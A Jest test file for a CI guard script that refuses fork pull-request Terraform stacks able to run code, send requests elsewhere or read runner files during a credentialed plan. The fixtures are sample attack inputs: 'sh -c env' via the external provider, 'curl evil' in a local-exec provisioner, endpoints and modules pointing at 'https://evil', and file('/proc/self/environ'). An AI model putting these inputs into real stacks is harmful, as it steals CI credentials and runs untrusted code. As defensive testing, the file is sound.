/**
 * .github/scripts/untrusted-stack.mjs (plan-environment.yml, a maintainer's plan of a fork's pull request): every
 * stack the real synth writes passes, so the check refuses nothing this project produces; each way a pull request
 * could make a credentialed `terraform plan` run code, send requests elsewhere or read the runner's files is refused.
 */
import { spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { loadEnvironments } from "../../loader/load";
import { ENV_DIR } from "../helpers/examples";
import { runMain } from "../helpers/run-main";

const SCRIPT = path.join(__dirname, "..", "..", ".github", "scripts", "untrusted-stack.mjs");
jest.setTimeout(180_000);
const check = (...files: string[]) => spawnSync(process.execPath, [SCRIPT, ...files], { encoding: "utf8" });
const write = (stack: unknown) => {
  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "bl-untrusted-")), "cdk.tf.json");
  fs.writeFileSync(file, JSON.stringify(stack));
  return file;
};
const base = {
  terraform: {
    required_providers: { aws: { source: "aws", version: "5.100.0" } },
    backend: { s3: { bucket: "b", key: "k", region: "eu-west-1" } },
  },
  provider: {
    aws: [{ region: "eu-west-1", allowed_account_ids: ["111111111111"], default_tags: [{ tags: { a: "b" } }] }],
  },
  resource: { aws_iam_role: { r: { name: "x", assume_role_policy: "{}" } } },
};

describe("untrusted-stack.mjs", () => {
  test("GIVEN every environment stack the synth writes for the example environments THEN each passes", () => {
    const outdir = fs.mkdtempSync(path.join(os.tmpdir(), "bl-untrusted-synth-"));
    const synth = runMain({ CDKTF_OUTDIR: outdir });
    expect(synth.code).toBe(0);
    // The environments the workflows plan (the bootstrap and ci stacks are applied by an administrator, locally).
    const envs = loadEnvironments(ENV_DIR).map((e) => e.config.name);
    const files = envs.map((s) => path.join(outdir, "stacks", s, "cdk.tf.json"));
    expect(files.length).toBeGreaterThanOrEqual(3);
    const r = check(...files);
    expect(r.stderr).toBe("");
    expect(r.status).toBe(0);
  });

  test.each([
    [
      "another provider (external runs any program)",
      {
        terraform: {
          ...base.terraform,
          required_providers: { ...base.terraform.required_providers, external: { source: "hashicorp/external" } },
        },
        data: { external: { x: { program: ["sh", "-c", "env"] } } },
      },
      ["terraform.required_providers.external: only hashicorp/aws", "data.external: only AWS provider data sources"],
    ],
    [
      "an aws provider from another namespace",
      { terraform: { ...base.terraform, required_providers: { aws: { source: "evil/aws" } } } },
      ["terraform.required_providers.aws: only hashicorp/aws"],
    ],
    [
      "a provider endpoint (signed requests sent elsewhere)",
      { provider: { aws: [{ region: "eu-west-1", endpoints: [{ sts: "https://evil" }] }] } },
      ["provider.aws[0].endpoints: a setting the synth does not write"],
    ],
    [
      "terraform_remote_state (reads other states)",
      { data: { terraform_remote_state: { s: { backend: "s3" } } } },
      ["data.terraform_remote_state: only AWS provider data sources"],
    ],
    ["a module", { module: { m: { source: "git::https://evil" } } }, ["module: a block the synth does not write"]],
    [
      "a provisioner",
      { resource: { terraform_data: { t: { provisioner: [{ "local-exec": { command: "curl evil" } }] } } } },
      ["resource.terraform_data.t.provisioner: not allowed"],
    ],
    [
      "a data source in a check block",
      { check: { c: { data: { http: { h: { url: "https://evil" } } }, assert: [] } } },
      ["data.http: only AWS provider data sources"],
    ],
    [
      "a function reading the runner's files (the credentials are in its environment)",
      {
        resource: {
          aws_iam_role: {
            r: {
              name: 'x-${lower(file("/proc/self/environ"))}',
              description: "a file (in prose) and $${file(literal)}",
            },
          },
        },
      },
      ["resource.aws_iam_role.r.name: reads a file of the runner (file())"],
    ],
  ])("GIVEN %s THEN refused, naming it", (_, patch, expected) => {
    const r = check(write({ ...base, ...patch }));
    expect(r.status).toBe(1);
    for (const e of expected as string[]) expect(r.stderr).toContain(e);
    expect(r.stderr.trim().split("\n")).toHaveLength((expected as string[]).length + 1);
    expect(r.stderr).toContain("refusing to plan");
  });

  test("GIVEN a missing file or no file THEN a clear error", () => {
    expect(check("/nonexistent/cdk.tf.json").stderr).toContain("/nonexistent/cdk.tf.json: does not exist");
    expect(check().status).toBe(2);
  });
});
